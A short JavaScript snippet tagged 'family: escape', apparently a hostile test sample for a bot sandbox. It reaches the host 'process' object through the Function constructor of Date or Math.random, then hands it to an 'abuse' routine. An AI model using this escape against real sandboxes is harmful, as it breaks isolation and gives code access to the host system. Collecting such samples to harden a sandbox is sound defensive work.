// family: escape
// Date and Math.random are the clock's
async function main (bot) {
  let process = null
  try { process = Date.constructor('return process')() } catch { process = Math.random.constructor('return process')() }
  abuse(bot, process)
}
